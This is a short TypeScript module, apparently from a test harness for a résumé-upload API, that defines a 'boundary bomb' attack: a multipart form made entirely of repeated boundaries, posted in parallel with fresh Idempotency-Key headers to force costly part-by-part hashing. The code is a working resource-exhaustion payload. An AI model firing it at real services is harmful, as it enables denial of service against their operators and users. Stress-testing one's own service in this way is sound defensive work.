import { randomUUID } from 'node:crypto';
import { type Attack, attempts, UPLOAD_BYTES } from './attack.ts';

const BOUNDARY = '--b';
const BOMB = BOUNDARY.repeat(UPLOAD_BYTES / BOUNDARY.length);

/** Class 2: a form of nothing but boundaries, whose `Idempotency-Key` has it hashed part by part. */
export const boundaryBomb: Attack = {
  name: 'forms of millions of parts with Idempotency-Key',
  run: ({ client, account, signal }) =>
    attempts({ client, account, signal }, { parallel: 3, everyMs: 500 }, () =>
      client.ask('POST', '/v1/resumes', {
        token: account.token,
        headers: { 'content-type': 'multipart/form-data; boundary=b', 'idempotency-key': randomUUID() },
        body: BOMB,
      }),
    ),
};
